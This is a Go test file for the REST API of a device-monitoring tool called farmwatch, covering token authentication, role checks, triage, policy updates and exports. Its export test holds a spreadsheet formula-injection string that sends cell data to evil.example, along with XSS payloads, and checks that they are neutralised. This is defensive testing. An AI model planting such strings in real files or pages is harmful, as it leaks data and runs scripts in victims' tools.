package api

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	pb "github.com/farmwatch/farmwatch/proto/farmwatch/v1"
	"github.com/farmwatch/farmwatch/server/store"
)

func TestRequestsWithoutALiveTokenGet401(t *testing.T) {
	e := newEnv(t)
	e.addDevice(devSpec{n: 1, hostname: "a"})
	for name, c := range map[string]struct{ auth, path string }{
		"no header":         {"", "/api/v1/devices"},
		"unknown token":     {"Bearer fwt_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "/api/v1/devices"},
		"revoked token":     {"revoked", "/api/v1/devices"},
		"basic scheme":      {"Basic " + e.tokens[store.RoleAdmin], "/api/v1/devices"},
		"empty bearer":      {"Bearer ", "/api/v1/devices"},
		"oversized token":   {"Bearer " + strings.Repeat("x", 300), "/api/v1/devices"},
		"unknown path":      {"", "/api/v1/no/such/thing"},
		"export, no header": {"", "/api/v1/export/devices.csv"},
	} {
		t.Run(name, func(t *testing.T) {
			r := e.get(c.auth, c.path)
			wantStatus(t, name, r, http.StatusUnauthorized)
			if got := r.header.Get("WWW-Authenticate"); !strings.HasPrefix(got, "Bearer") {
				t.Errorf("WWW-Authenticate = %q", got)
			}
			r.errMsg(t)
			if bytes.Contains(r.body, []byte(deviceID(1))) {
				t.Errorf("401 body leaks data: %s", r.body)
			}
		})
	}
	// Lower-case scheme is fine (RFC 7235: schemes are case-insensitive).
	wantStatus(t, "lower-case bearer", e.get("bearer "+e.tokens[store.RoleViewer], "/api/v1/devices"), http.StatusOK)
}

func TestRolesGateWhatTokensMayDo(t *testing.T) {
	e := newEnv(t)
	id := e.addDevice(devSpec{n: 1, hostname: "a"})
	triage := `{"state":"investigating"}`
	for _, c := range []struct {
		role, method, path, ctype, body string
		status                          int
	}{
		{store.RoleViewer, "POST", "/api/v1/devices/" + id + "/triage", "application/json", triage, http.StatusForbidden},
		{store.RoleViewer, "POST", "/api/v1/devices/" + id + "/notes", "application/json", `{"body":"x"}`, http.StatusForbidden},
		{store.RoleViewer, "GET", "/api/v1/audit", "", "", http.StatusForbidden},
		{store.RoleAnalyst, "GET", "/api/v1/audit", "", "", http.StatusForbidden},
		{store.RoleAnalyst, "PUT", "/api/v1/policy", "application/yaml", "schema: 1\n", http.StatusForbidden},
		{store.RoleViewer, "GET", "/api/v1/policy", "", "", http.StatusOK},
		{store.RoleViewer, "GET", "/api/v1/policy/history", "", "", http.StatusOK},
		{store.RoleViewer, "GET", "/api/v1/clusters", "", "", http.StatusOK},
		{store.RoleAnalyst, "POST", "/api/v1/devices/" + id + "/triage", "application/json", triage, http.StatusOK},
		{store.RoleAdmin, "GET", "/api/v1/audit", "", "", http.StatusOK},
	} {
		r := e.do(c.role, c.method, c.path, c.ctype, []byte(c.body))
		wantStatus(t, c.role+" "+c.method+" "+c.path, r, c.status)
		if c.status == http.StatusForbidden && !strings.Contains(r.errMsg(t).Error, "role") {
			t.Errorf("403 does not say which role is needed: %s", r.body)
		}
	}
	// The refused triage changed nothing.
	d, _ := e.store.Device(context.Background(), id)
	if d.Triage.By != "token:"+store.RoleAnalyst {
		t.Fatalf("triage by %q, want the analyst's", d.Triage.By)
	}
}

func TestAnalystTriageIsStoredAuditedAndValidated(t *testing.T) {
	e := newEnv(t)
	id := e.addDevice(devSpec{n: 1, hostname: "laptop-1", score: 71, band: "high"})
	path := "/api/v1/devices/" + id + "/triage"

	r := e.postJSON(store.RoleAnalyst, path, `{"state":"confirmed_farm","reason":"PiKVM and shared Wi-Fi","assignee":"ana"}`)
	wantStatus(t, "triage", r, http.StatusOK)
	var d deviceJSON
	r.json(t, &d)
	want := triageJSON{State: "confirmed_farm", Reason: "PiKVM and shared Wi-Fi", Assignee: "ana", By: "token:analyst", At: e.now}
	if d.ID != id || d.Triage != want || d.Band != "high" {
		t.Fatalf("device after triage = %+v, want triage %+v", d, want)
	}
	log, _ := e.store.AuditLog(context.Background(), 10)
	if len(log) != 1 || log[0].Actor != "token:analyst" || log[0].Action != "api.device.triage" || log[0].Target != id ||
		!strings.Contains(log[0].Detail, "state=confirmed_farm") || !strings.Contains(log[0].Detail, "was new") {
		t.Fatalf("audit log = %+v", log)
	}

	for name, c := range map[string]struct {
		ctype, body string
		status      int
		msg         string
	}{
		"unknown state":       {"application/json", `{"state":"guilty"}`, 400, "state"},
		"benign needs reason": {"application/json", `{"state":"benign","reason":"  "}`, 400, "reason: required"},
		"farm needs reason":   {"application/json", `{"state":"confirmed_farm"}`, 400, "reason: required"},
		"reason too long":     {"application/json", `{"state":"investigating","reason":"` + strings.Repeat("r", 1001) + `"}`, 400, "reason: longer than 1000"},
		"unknown field":       {"application/json", `{"state":"benign","reason":"ok","severity":"low"}`, 400, `unknown field "severity"`},
		"two objects":         {"application/json", `{"state":"new"}{"state":"benign"}`, 400, "after the JSON"},
		"not JSON":            {"application/json", `state=new`, 400, "bad JSON"},
		"form post":           {"application/x-www-form-urlencoded", `state=new`, 415, "application/json"},
		"body too large":      {"application/json", `{"state":"new","reason":"` + strings.Repeat("r", 70<<10) + `"}`, 413, "larger than"},
	} {
		r := e.do(store.RoleAnalyst, "POST", path, c.ctype, []byte(c.body))
		wantStatus(t, name, r, c.status)
		if msg := r.errMsg(t).Error; !strings.Contains(msg, c.msg) {
			t.Errorf("%s: error %q does not mention %q", name, msg, c.msg)
		}
	}
	// None of the rejected requests changed the triage or wrote to the audit log.
	if dv, _ := e.store.Device(context.Background(), id); dv.Triage.State != "confirmed_farm" {
		t.Fatalf("rejected request changed triage to %+v", dv.Triage)
	}
	if log, _ := e.store.AuditLog(context.Background(), 10); len(log) != 1 {
		t.Fatalf("rejected requests audited: %+v", log)
	}
}

func TestNotesAreAddedAuditedAndShownWithTheDevice(t *testing.T) {
	e := newEnv(t)
	id := e.addDevice(devSpec{n: 1, hostname: "laptop-1"})
	r := e.postJSON(store.RoleAnalyst, "/api/v1/devices/"+id+"/notes", `{"body":"<script>alert(1)</script> called the employee"}`)
	wantStatus(t, "note", r, http.StatusCreated)
	var n noteJSON
	r.json(t, &n)
	if n.ID == 0 || n.DeviceID != id || n.Author != "token:analyst" || !n.At.Equal(e.now) || !strings.HasPrefix(n.Body, "<script>") {
		t.Fatalf("note = %+v", n)
	}
	if bytes.Contains(r.body, []byte("<script>")) {
		t.Fatalf("note body not escaped in JSON: %s", r.body)
	}
	var d deviceDetailJSON
	e.get(store.RoleViewer, "/api/v1/devices/"+id).json(t, &d)
	if len(d.Notes) != 1 || d.Notes[0] != n {
		t.Fatalf("device notes = %+v, want [%+v]", d.Notes, n)
	}
	if log, _ := e.store.AuditLog(context.Background(), 10); len(log) != 1 || log[0].Action != "api.device.note" || log[0].Actor != "token:analyst" {
		t.Fatalf("audit log = %+v", log)
	}
	for name, c := range map[string]struct {
		body string
		msg  string
	}{
		"blank":    {`{"body":" \n "}`, "body: required"},
		"too long": {`{"body":"` + strings.Repeat("n", 8<<10+1) + `"}`, "longer than 8192"},
		"unknown":  {`{"body":"x","pinned":true}`, `unknown field "pinned"`},
	} {
		r := e.postJSON(store.RoleAnalyst, "/api/v1/devices/"+id+"/notes", c.body)
		wantStatus(t, name, r, http.StatusBadRequest)
		if msg := r.errMsg(t).Error; !strings.Contains(msg, c.msg) {
			t.Errorf("%s: error %q does not mention %q", name, msg, c.msg)
		}
	}
	if ns, _ := e.store.Notes(context.Background(), id); len(ns) != 1 {
		t.Fatalf("rejected notes stored: %+v", ns)
	}
}

func TestPolicyPutRejectsAnInvalidFileWithLinesAndChangesNothing(t *testing.T) {
	e := newEnv(t)
	before := e.policy.Policy().Version()

	r := e.do(store.RoleAdmin, "PUT", "/api/v1/policy", "application/yaml", []byte("schema: 1\nsignals:\n  kvm.usb:\n    wieght: 3\n"))
	wantStatus(t, "typo", r, http.StatusUnprocessableEntity)
	eb := r.errMsg(t)
	if len(eb.Problems) != 1 || eb.Problems[0].Line != 4 || eb.Problems[0].Path != "signals.kvm.usb.wieght" || !strings.Contains(eb.Problems[0].Reason, `did you mean "weight"`) {
		t.Fatalf("problems = %+v", eb.Problems)
	}
	if calls := e.policy.calls(); len(calls) != 0 {
		t.Fatalf("invalid policy was set by %v", calls)
	}
	var got struct{ Version, Source string }
	e.get(store.RoleViewer, "/api/v1/policy").json(t, &got)
	if got.Version != before {
		t.Fatalf("version after rejected PUT = %s, want %s", got.Version, before)
	}
	if log, _ := e.store.AuditLog(context.Background(), 10); len(log) != 0 {
		t.Fatalf("rejected policy audited: %+v", log)
	}

	wantStatus(t, "JSON body", e.do(store.RoleAdmin, "PUT", "/api/v1/policy", "application/json", []byte(`{}`)), http.StatusUnsupportedMediaType)
	wantStatus(t, "huge body", e.do(store.RoleAdmin, "PUT", "/api/v1/policy", "text/plain", bytes.Repeat([]byte("# x\n"), 20<<10)), http.StatusRequestEntityTooLarge)

	src := "schema: 1\nsignals:\n  kvm.usb:\n    weight: 33\n"
	r = e.do(store.RoleAdmin, "PUT", "/api/v1/policy", "text/plain; charset=utf-8", []byte(src))
	wantStatus(t, "valid", r, http.StatusOK)
	var put struct {
		Version, Previous string
		Changed           bool
	}
	r.json(t, &put)
	if put.Version == before || put.Previous != before || !put.Changed || put.Version != e.policy.Policy().Version() {
		t.Fatalf("PUT answer = %+v (before %s, in force %s)", put, before, e.policy.Policy().Version())
	}
	if calls := e.policy.calls(); !slices.Equal(calls, []string{"token:admin"}) {
		t.Fatalf("SetPolicy calls = %v", calls)
	}
	if s, _ := e.policy.Policy().Lookup("kvm.usb"); s.Weight != 33 {
		t.Fatalf("kvm.usb weight in force = %v", s.Weight)
	}
	e.get(store.RoleViewer, "/api/v1/policy").json(t, &got)
	if got.Version != put.Version || got.Source != src {
		t.Fatalf("GET policy = %+v", got)
	}
	log, _ := e.store.AuditLog(context.Background(), 10)
	if len(log) != 1 || log[0].Action != "api.policy.put" || log[0].Actor != "token:admin" || log[0].Target != put.Version {
		t.Fatalf("audit log = %+v", log)
	}
}

func TestDeviceListFiltersSortsAndPages(t *testing.T) {
	e := newEnv(t)
	kvm := &pb.Finding{Signal: "kvm.usb", Key: "pikvm", Title: "PiKVM", Severity: pb.Severity_SEVERITY_HIGH}
	anydesk := &pb.Finding{Signal: "remote_tool.running", Key: "anydesk", Title: "AnyDesk", Severity: pb.Severity_SEVERITY_MEDIUM}
	ids := []string{
		e.addDevice(devSpec{n: 1, hostname: "alpha", score: 91, band: "critical", findings: []*pb.Finding{kvm, anydesk}}),
		e.addDevice(devSpec{n: 2, hostname: "bravo", score: 65, band: "high", findings: []*pb.Finding{anydesk}, group: "helpdesk"}),
		e.addDevice(devSpec{n: 3, hostname: "charlie", score: 30, band: "medium", os: "windows"}),
		e.addDevice(devSpec{n: 4, hostname: "delta", score: 5, band: "low", os: "darwin", seen: t0.Add(30 * time.Hour)}),
		e.addDevice(devSpec{n: 5, hostname: "echo"}),
	}
	if err := e.store.SetTriage(context.Background(), ids[1], store.Triage{State: store.TriageInvestigating, By: "x", At: t0}); err != nil {
		t.Fatal(err)
	}
	list := func(query string) ([]string, deviceList) {
		t.Helper()
		r := e.get(store.RoleViewer, "/api/v1/devices?"+query)
		wantStatus(t, query, r, http.StatusOK)
		var l deviceList
		r.json(t, &l)
		var hosts []string
		for _, d := range l.Devices {
			hosts = append(hosts, d.Hostname)
		}
		return hosts, l
	}
	for _, c := range []struct {
		query string
		want  []string
	}{
		{"sort=hostname", []string{"alpha", "bravo", "charlie", "delta", "echo"}},
		{"sort=hostname&order=desc", []string{"echo", "delta", "charlie", "bravo", "alpha"}},
		{"sort=score", []string{"alpha", "bravo", "charlie", "delta", "echo"}},
		{"sort=score&order=asc&limit=2", []string{"echo", "delta"}},
		{"sort=findings&limit=1", []string{"alpha"}},
		{"sort=enrolled&order=asc&limit=2&offset=3", []string{"delta", "echo"}},
		{"sort=last_seen&limit=1", []string{"delta"}},
		{"band=high", []string{"bravo"}},
		{"min_band=high&sort=hostname", []string{"alpha", "bravo"}},
		{"signal=kvm.usb", []string{"alpha"}},
		{"signal=remote_tool.*&sort=hostname", []string{"alpha", "bravo"}},
		{"group=helpdesk", []string{"bravo"}},
		{"triage=investigating", []string{"bravo"}},
		{"triage=new&sort=hostname", []string{"alpha", "charlie", "delta", "echo"}},
		{"os=windows", []string{"charlie"}},
		{"q=harl", []string{"charlie"}},
		{"q=" + ids[3][20:], []string{"delta"}},
		{"seen_since=" + url.QueryEscape(t0.Add(29*time.Hour).Format(time.RFC3339)), []string{"delta"}},
		{"q=" + url.QueryEscape("%"), nil},
	} {
		if got, _ := list(c.query); !slices.Equal(got, c.want) {
			t.Errorf("%s: %v, want %v", c.query, got, c.want)
		}
	}

	// Pages are disjoint, cover everything, and report the total.
	var seen []string
	for off := 0; off < 6; off += 2 {
		got, l := list("sort=hostname&limit=2&offset=" + string(rune('0'+off)))
		if l.Total != 5 || l.Limit != 2 || l.Offset != off {
			t.Fatalf("page at %d: total %d limit %d offset %d", off, l.Total, l.Limit, l.Offset)
		}
		seen = append(seen, got...)
	}
	if !slices.Equal(seen, []string{"alpha", "bravo", "charlie", "delta", "echo"}) {
		t.Fatalf("pages = %v", seen)
	}
	if _, l := list(""); l.Limit != 50 || l.Offset != 0 || l.Total != 5 || len(l.Devices) != 5 {
		t.Fatalf("defaults: %+v", l)
	}

	for _, c := range []struct{ query, param string }{
		{"limit=0", "limit"},
		{"limit=1001", "limit"},
		{"limit=ten", "limit"},
		{"limit=+5", "limit"},
		{"offset=-1", "offset"},
		{"sort=id", "sort"},
		{"order=up", "order"},
		{"band=severe", "band"},
		{"min_band=HIGH", "min_band"},
		{"triage=guilty", "triage"},
		{"seen_since=yesterday", "seen_since"},
		{"signal=kvm.%25", "signal"},
		{"q=" + strings.Repeat("a", 257), "q"},
		{"bnad=high", "bnad"},
		{"band=high&band=low", "band"},
	} {
		r := e.get(store.RoleViewer, "/api/v1/devices?"+c.query)
		wantStatus(t, c.query, r, http.StatusBadRequest)
		if eb := r.errMsg(t); eb.Param != c.param || !strings.Contains(eb.Error, c.param) {
			t.Errorf("%s: error %+v does not name %s", c.query, eb, c.param)
		}
	}
}

func TestDeviceDetailAndFindings(t *testing.T) {
	e := newEnv(t)
	kvm := &pb.Finding{Signal: "kvm.usb", Key: "pikvm", Title: "PiKVM", Severity: pb.Severity_SEVERITY_HIGH, Confidence: 0.9, Evidence: map[string]string{"vid": "1d6b"}}
	id := e.addDevice(devSpec{n: 7, hostname: "golf", score: 71.5, band: "high", findings: []*pb.Finding{kvm}})

	r := e.get(store.RoleViewer, "/api/v1/devices/"+id)
	wantStatus(t, "detail", r, http.StatusOK)
	var d deviceDetailJSON
	r.json(t, &d)
	if d.ID != id || d.Hostname != "golf" || d.Score != 71.5 || d.Band != "high" || d.FindingsCount != 1 || d.PolicyVersion != "sha256:test" {
		t.Fatalf("detail = %+v", d)
	}
	if string(d.Breakdown) != `{"Score":71.5,"Band":"high"}` {
		t.Fatalf("breakdown = %s", d.Breakdown)
	}
	if len(d.Findings) != 1 || d.Findings[0].Signal != "kvm.usb" || d.Findings[0].Severity != "high" || d.Findings[0].Evidence["vid"] != "1d6b" || d.Findings[0].Source != "agent" {
		t.Fatalf("findings = %+v", d.Findings)
	}
	var raw map[string]json.RawMessage
	r.json(t, &raw)
	for _, k := range []string{"notes", "location_notes", "mac_addresses"} {
		if string(raw[k]) != "[]" {
			t.Errorf("%s = %s, want []", k, raw[k])
		}
	}
	if !strings.HasSuffix(strings.Trim(string(raw["enrolled_at"]), `"`), "Z") {
		t.Errorf("enrolled_at = %s, want UTC", raw["enrolled_at"])
	}

	var fl struct{ Findings []findingJSON }
	e.get(store.RoleViewer, "/api/v1/devices/"+id+"/findings").json(t, &fl)
	if len(fl.Findings) != 1 || !reflect.DeepEqual(fl.Findings[0], d.Findings[0]) || fl.Findings[0].Key != "kvm.usb|pikvm" {
		t.Fatalf("findings endpoint = %+v", fl.Findings)
	}

	unknown := deviceID(99)
	for _, c := range []struct {
		path   string
		status int
	}{
		{"/api/v1/devices/" + unknown, 404},
		{"/api/v1/devices/" + unknown + "/findings", 404},
		{"/api/v1/devices/" + strings.ToUpper(id), 400},
		{"/api/v1/devices/" + id[:31], 400},
		{"/api/v1/devices/" + id[:31] + "g", 400},
		{"/api/v1/devices/x/findings", 400},
	} {
		r := e.get(store.RoleViewer, c.path)
		wantStatus(t, c.path, r, c.status)
		r.errMsg(t)
	}
	wantStatus(t, "triage unknown device", e.postJSON(store.RoleAnalyst, "/api/v1/devices/"+unknown+"/triage", `{"state":"new"}`), 404)
	wantStatus(t, "note on malformed id", e.postJSON(store.RoleAnalyst, "/api/v1/devices/nope/notes", `{"body":"x"}`), 400)
}

func TestHostileDeviceStringsAreDefusedInCSVAndEscapedInJSON(t *testing.T) {
	e := newEnv(t)
	formula := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	img := `<img src=x onerror=alert(1)>`
	e.addDevice(devSpec{n: 1, hostname: formula, score: 50, band: "medium"})
	e.addDevice(devSpec{n: 2, hostname: img, group: "@sales", findings: []*pb.Finding{{Signal: "kvm.usb", Key: "k", Title: "+1 <b>KVM</b> & co"}}})
	e.addDevice(devSpec{n: 3, hostname: "-2+3"})

	r := e.get(store.RoleViewer, "/api/v1/export/devices.csv")
	wantStatus(t, "csv", r, http.StatusOK)
	if ct := r.header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("Content-Type = %q", ct)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(rows[0], csvHeader) || len(rows) != 4 {
		t.Fatalf("csv = %q", rows)
	}
	byHost := map[string][]string{}
	for _, row := range rows[1:] {
		byHost[row[1]] = row
	}
	for _, want := range []string{"'" + formula, img, "'-2+3"} {
		if byHost[want] == nil {
			t.Errorf("no row with hostname %q in %q", want, rows)
		}
	}
	if byHost[img][4] != "'@sales" {
		t.Errorf("group cell = %q, want '@sales", byHost[img][4])
	}
	if byHost["'"+formula][5] != "50" || byHost["'"+formula][6] != "medium" {
		t.Errorf("score cells = %q", byHost["'"+formula])
	}

	for _, path := range []string{"/api/v1/devices", "/api/v1/devices/" + deviceID(2), "/api/v1/export/findings.jsonl"} {
		r := e.get(store.RoleViewer, path)
		wantStatus(t, path, r, http.StatusOK)
		for _, raw := range []string{"<img", "<b>", "& co"} {
			if bytes.Contains(r.body, []byte(raw)) {
				t.Errorf("%s: unescaped %q in %s", path, raw, r.body)
			}
		}
		if !bytes.Contains(r.body, []byte(`\u003cimg src=x onerror=alert(1)\u003e`)) {
			t.Errorf("%s: escaped hostname missing from %s", path, r.body)
		}
	}
}

func TestExportsPageThroughEveryMatchingDevice(t *testing.T) {
	old := exportPage
	exportPage = 2
	t.Cleanup(func() { exportPage = old })
	e := newEnv(t)
	f := func(key string) *pb.Finding {
		return &pb.Finding{Signal: "remote_tool.running", Key: key, Title: key, Severity: pb.Severity_SEVERITY_MEDIUM}
	}
	for n := 1; n <= 5; n++ {
		var fs []*pb.Finding
		for k := range n % 3 {
			fs = append(fs, f(string(rune('a'+k))))
		}
		band := "low"
		if n%2 == 0 {
			band = "high"
		}
		e.addDevice(devSpec{n: n, hostname: "host-" + string(rune('0'+n)), findings: fs, score: float64(n), band: band})
	}
	// n%3 findings each: 1, 2, 0, 1, 2.
	r := e.get(store.RoleViewer, "/api/v1/export/findings.jsonl")
	wantStatus(t, "jsonl", r, http.StatusOK)
	if ct := r.header.Get("Content-Type"); ct != "application/x-ndjson" {
		t.Fatalf("Content-Type = %q", ct)
	}
	var got []string
	for line := range strings.Lines(string(r.body)) {
		var fl findingLine
		dec := json.NewDecoder(strings.NewReader(line))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&fl); err != nil {
			t.Fatalf("line %q: %v", line, err)
		}
		got = append(got, fl.Hostname+"/"+fl.Title)
		if fl.DeviceID == "" || fl.Signal != "remote_tool.running" || fl.Severity != "medium" {
			t.Errorf("line = %+v", fl)
		}
	}
	want := []string{"host-1/a", "host-2/a", "host-2/b", "host-4/a", "host-5/a", "host-5/b"}
	if !slices.Equal(got, want) {
		t.Fatalf("findings.jsonl = %v, want %v", got, want)
	}

	rows, err := csv.NewReader(bytes.NewReader(e.get(store.RoleViewer, "/api/v1/export/devices.csv").body)).ReadAll()
	if err != nil || len(rows) != 6 {
		t.Fatalf("devices.csv: %d rows, %v", len(rows), err)
	}
	rows, _ = csv.NewReader(bytes.NewReader(e.get(store.RoleViewer, "/api/v1/export/devices.csv?band=high").body)).ReadAll()
	if len(rows) != 3 || rows[1][1] != "host-2" || rows[2][1] != "host-4" {
		t.Fatalf("devices.csv?band=high = %q", rows)
	}
	for _, q := range []string{"limit=10", "sort=score", "band=nope"} {
		wantStatus(t, "export "+q, e.get(store.RoleViewer, "/api/v1/export/devices.csv?"+q), http.StatusBadRequest)
	}
	log, _ := e.store.AuditLog(context.Background(), 10)
	if len(log) != 3 || log[0].Action != "api.export" || log[0].Target != "devices.csv" || log[0].Detail != "band=high" || log[0].Actor != "token:viewer" {
		t.Fatalf("audit log = %+v", log)
	}
}

func TestAuditLogAndPolicyHistory(t *testing.T) {
	e := newEnv(t)
	id := e.addDevice(devSpec{n: 1, hostname: "a"})
	e.postJSON(store.RoleAnalyst, "/api/v1/devices/"+id+"/triage", `{"state":"investigating"}`)
	e.postJSON(store.RoleAnalyst, "/api/v1/devices/"+id+"/notes", `{"body":"n"}`)
	if err := e.store.SavePolicy(context.Background(), store.PolicyRecord{Version: "sha256:one", Content: []byte("schema: 1\n"), CreatedAt: t0, CreatedBy: "cli", ActivatedAt: t0}); err != nil {
		t.Fatal(err)
	}

	var al struct{ Entries []auditJSON }
	e.get(store.RoleAdmin, "/api/v1/audit?limit=1").json(t, &al)
	if len(al.Entries) != 1 || al.Entries[0].Action != "api.device.note" || !al.Entries[0].At.Equal(e.now) {
		t.Fatalf("audit = %+v", al)
	}
	e.get(store.RoleAdmin, "/api/v1/audit").json(t, &al)
	if len(al.Entries) != 2 {
		t.Fatalf("audit = %+v", al)
	}
	wantStatus(t, "audit limit", e.get(store.RoleAdmin, "/api/v1/audit?limit=0"), http.StatusBadRequest)
	wantStatus(t, "audit unknown param", e.get(store.RoleAdmin, "/api/v1/audit?since=1"), http.StatusBadRequest)

	var ph struct{ Policies []policyRecordJSON }
	e.get(store.RoleViewer, "/api/v1/policy/history").json(t, &ph)
	if len(ph.Policies) != 1 || ph.Policies[0].Version != "sha256:one" || ph.Policies[0].CreatedBy != "cli" || !ph.Policies[0].ActivatedAt.Equal(t0) {
		t.Fatalf("history = %+v", ph)
	}
}

func TestClustersAreListed(t *testing.T) {
	e := newEnv(t)
	a, b := e.addDevice(devSpec{n: 1, hostname: "a"}), e.addDevice(devSpec{n: 2, hostname: "b"})
	c := store.Cluster{ID: "c1", Members: []string{a, b}, Kinds: []string{"wifi"}, First: t0, Last: t0.Add(time.Hour),
		Links: []store.ClusterLink{{Kind: "wifi", Value: "<ssid>", Devices: []string{a, b}, First: t0, Last: t0}}}
	if err := e.store.ReplaceFleet(context.Background(), []store.Cluster{c}, nil, t0); err != nil {
		t.Fatal(err)
	}
	r := e.get(store.RoleViewer, "/api/v1/clusters")
	var cl struct{ Clusters []clusterJSON }
	r.json(t, &cl)
	if len(cl.Clusters) != 1 || !slices.Equal(cl.Clusters[0].Members, []string{a, b}) || cl.Clusters[0].Links[0].Value != "<ssid>" {
		t.Fatalf("clusters = %+v", cl)
	}
	if bytes.Contains(r.body, []byte("<ssid>")) {
		t.Fatalf("cluster value not escaped: %s", r.body)
	}
}

func TestUnroutedRequestsGet404Or405(t *testing.T) {
	e := newEnv(t)
	r := e.get(store.RoleViewer, "/api/v1/nope")
	wantStatus(t, "unknown path", r, http.StatusNotFound)
	r.errMsg(t)
	r = e.do(store.RoleAdmin, "DELETE", "/api/v1/policy", "", nil)
	wantStatus(t, "DELETE policy", r, http.StatusMethodNotAllowed)
	if allow := r.header.Get("Allow"); allow != "GET, PUT, HEAD" {
		t.Fatalf("Allow = %q", allow)
	}
	r = e.do(store.RoleAdmin, "POST", "/api/v1/devices", "application/json", []byte(`{}`))
	wantStatus(t, "POST devices", r, http.StatusMethodNotAllowed)
}

func TestNewTokenIsPrefixedRandomAndHashedWithSHA256(t *testing.T) {
	a, err := NewToken()
	if err != nil {
		t.Fatal(err)
	}
	b, _ := NewToken()
	if a == b || !strings.HasPrefix(a, "fwt_") || len(a) != 4+43 || strings.ContainsAny(a[4:], "+/=") {
		t.Fatalf("tokens %q %q", a, b)
	}
	sum := sha256.Sum256([]byte(a))
	if !bytes.Equal(HashToken(a), sum[:]) {
		t.Fatal("HashToken is not SHA-256")
	}
}

func TestNewNeedsAStoreAndAPolicy(t *testing.T) {
	if _, err := New(Options{Policy: &controller{}}); err == nil {
		t.Error("no store accepted")
	}
	if _, err := New(Options{Store: &store.SQLite{}}); err == nil {
		t.Error("no policy accepted")
	}
}
